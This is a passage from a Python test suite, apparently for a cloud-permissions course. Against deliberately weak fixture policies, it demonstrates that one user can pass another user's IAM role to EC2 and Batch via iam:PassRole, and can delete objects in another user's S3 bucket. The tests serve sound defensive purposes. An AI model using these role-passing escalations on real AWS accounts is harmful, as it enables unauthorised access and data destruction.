        assert launched["ImageId"] == image
        admin(endpoint, "ec2").terminate_instances(InstanceIds=[launched["InstanceId"]])

    # The fixture: with iam:PassRole fenced by the role's owner tag instead of its path (the tag
    # IAM does not give reliably for it: the gate gives the worst case, B's own ID), B launches
    # with A's instance profile, so with A's role, and registers a job definition with A's job role.
    by_tag = Gate(endpoint, b, policies_before(FIXTURES / "policy-passrole-by-tag.json"))
    try:
        profile = next(p for p in admin(endpoint, "iam").list_instance_profiles()["InstanceProfiles"]
                       if p["InstanceProfileName"] != B_PROFILE and p["Roles"])
        launched = gated_client(endpoint, "ec2", keys, by_tag).run_instances(
            **launch_as(b.userid, amazon, IamInstanceProfile={"Name": profile["InstanceProfileName"]}))["Instances"][0]
        definition = next(d for d in admin(endpoint, "batch").describe_job_definitions(status="ACTIVE")["jobDefinitions"]
                          if (d.get("tags") or {}).get(OWNER_KEY) == owner_a)
        registered = gated_client(endpoint, "batch", keys, by_tag).register_job_definition(
            jobDefinitionName="crashcourse-batch-b-with-a", type="container", platformCapabilities=["FARGATE"],
            tags={OWNER_KEY: b.userid}, containerProperties=definition["containerProperties"])
    finally:
        by_tag.close()
    assert launched["IamInstanceProfile"]["Arn"] == profile["Arn"], launched.get("IamInstanceProfile")
    admin(endpoint, "ec2").terminate_instances(InstanceIds=[launched["InstanceId"]])
    (made,) = admin(endpoint, "batch").describe_job_definitions(jobDefinitions=[registered["jobDefinitionArn"]])["jobDefinitions"]
    assert made["containerProperties"]["jobRoleArn"] == definition["containerProperties"]["jobRoleArn"]
    assert f"/crashcourse/{owner_a}/" in made["containerProperties"]["jobRoleArn"]

    # The fixture: with buckets allowed by name, as before ABAC, B deletes an object of A's bucket.
    bucket = next(k.split()[1] for k in before if k.startswith("bucket ") and before[k][2])
    key = before[f"bucket {bucket}"][2][0][0]
    by_name = Gate(endpoint, b, policies_before(FIXTURES / "policy-buckets-by-name.json"))
    try:
        gated_client(endpoint, "s3", keys, by_name).delete_object(Bucket=bucket, Key=key)
    finally:
        by_name.close()
    assert key not in [o["Key"] for o in admin(endpoint, "s3").list_objects_v2(Bucket=bucket).get("Contents", [])]
